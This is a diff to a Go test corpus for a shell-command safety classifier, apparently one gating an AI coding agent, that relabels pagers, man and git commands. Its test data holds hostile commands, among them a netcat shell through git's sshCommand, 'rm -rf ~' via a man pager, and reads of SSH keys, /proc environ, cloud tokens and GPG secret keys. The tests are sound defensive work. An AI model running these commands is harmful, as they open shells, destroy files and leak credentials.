@@ -7,8 +7,9 @@ import "testing"
 // sheets, not copied), each with the class it must get. They cover every
 // way a "read-only" command was found to run code, the network plus
 // execution cases, secret reads, reads outside the workspace and commands
-// that run workspace code. Under --approve none nothing here but the
-// read-only controls may run; under --approve all nothing dangerous may.
+// that run workspace code. Under --approve none nothing here that is
+// mutating or dangerous may run unasked (the rest only in the read-only,
+// offline sandbox); under --approve all nothing dangerous may.
 var attackCorpus = []tc{
 	// 1. Environment assignments: only inert variables keep a command
 	// read-only; variables that name commands are analysed as commands.
@@ -45,10 +46,11 @@ var attackCorpus = []tc{
 	// 1. Options that name a program, a pager, an output file or an
 	// HTML/exec mode.
 	{"man '-H/bin/sh #' man", RC, ""},
-	{"man -H ls", RC, ""},
+	{"man -H ls", RO, ""}, // the browser comes from BROWSER, which the environment allowlist drops
 	{"man -P 'sh -c \"rm -rf ~\"' ls", DA, ""},
 	{"man --pager='touch /tmp/x' ls", DA, ""},
-	{"man ls", RC, ""},
+	{"man ls", RO, ""},
+	{"man -P cat ls", RC, ""},
 	{"man -k printf", RO, ""},
 	{"git -c core.fsmonitor='touch /tmp/pwn' status", DA, ""},
 	{"git -c core.sshCommand='nc h 1 -e sh' fetch", DA, ""},
@@ -56,10 +58,17 @@ var attackCorpus = []tc{
 	{"git -c color.ui=never log", RO, ""},
 	{"git --config-env=core.pager=X log", DA, ""},
 	{"git log --output=/tmp/log.txt", DA, ""},
-	{"git diff --ext-diff", RC, ""},
+	// Programs git takes from the repository's configuration run in the
+	// sandbox (osbox/gitconfig_linux_test.go); the command line is analysed.
+	{"git diff --ext-diff", RO, ""},
+	{"git diff -Oorder.txt", RO, ""},
+	{"git --git-dir=../other/.git log", RX, ""},
+	{"git --git-dir=vendored/.git log", RO, ""},
+	{"git --work-tree=/etc checkout HEAD -- passwd", DA, ""},
+	{"git --exec-path=/tmp status", RC, ""},
 	{"git grep -O'sh -c id' foo", RC, ""},
-	{"git -p log", RC, ""},
-	{"git help log", RC, ""},
+	{"git -p log", RO, ""},
+	{"git help log", RO, ""},
 	{"mypy x.py --junit-xml /elsewhere/out.xml", DA, ""},
 	{"mypy x.py --junit-xml=reports/out.xml", MU, ""},
 	{"pytest --junitxml=/tmp/r.xml", DA, ""},
@@ -84,13 +93,14 @@ var attackCorpus = []tc{
 	{"gdb -nx -ex '!sh' -ex quit", DA, ""},
 	{"emacs -Q -nw --eval '(term \"/bin/sh\")'", DA, ""},
 
-	// 1. Pagers and interactive programs are not read-only.
-	{"less notes.txt", RC, ""},
-	{"more notes.txt", RC, ""},
-	{"git log | less", RC, ""},
-	{"systemctl status nginx", RC, ""},
+	// 1. Pagers read: what they would run comes from variables the
+	// environment allowlist drops (shell/env_programs_test.go) or from
+	// configuration the sandbox contains. Interactive programs run code.
+	{"less notes.txt", RO, ""},
+	{"less +!id notes.txt", RC, ""},
+	{"systemctl status nginx", RO, ""},
 	{"systemctl --no-pager status nginx", RO, ""},
-	{"journalctl -u nginx", RC, ""},
+	{"journalctl -u nginx", RO, ""},
 	{"journalctl --no-pager -u nginx -n 50", RO, ""},
 	{"vi notes.txt", RC, ""},
 	{"top", RC, ""},
@@ -267,7 +277,7 @@ var attackCorpus = []tc{
 	{"gcloud auth print-access-token", DA, ""},
 	{"kubectl config view --raw", DA, ""},
 	{"gpg --export-secret-keys -a", DA, ""},
-	{"git log -p --textconv", RC, ""},
+	{"git log -p --textconv", RO, ""},
 	{"cat $(printf '/proc/%s/environ' self)", DA, ""},
 	{"cat /proc/$(pgrep -o govibe)/environ", DA, ""},
 	{"x=~/.ssh; cat $x/id_rsa", DA, ""},
@@ -279,9 +289,6 @@ var attackCorpus = []tc{
 	{"f() { cat /proc/self/environ; }; f", DA, ""},
 	{"eval 'cat /proc/self/env''iron'", DA, ""},
 	{"cat $'/proc/self/\\x65nviron'", DA, ""},
-	{"git log --help", RC, ""},
-	{"git help config", RC, ""},
-	{"pager notes.txt", RC, ""},
 	{"sensible-editor notes.txt", RC, ""},
 	{"pip install -e .", RC, ""},
 	{"pip list", RO, ""},
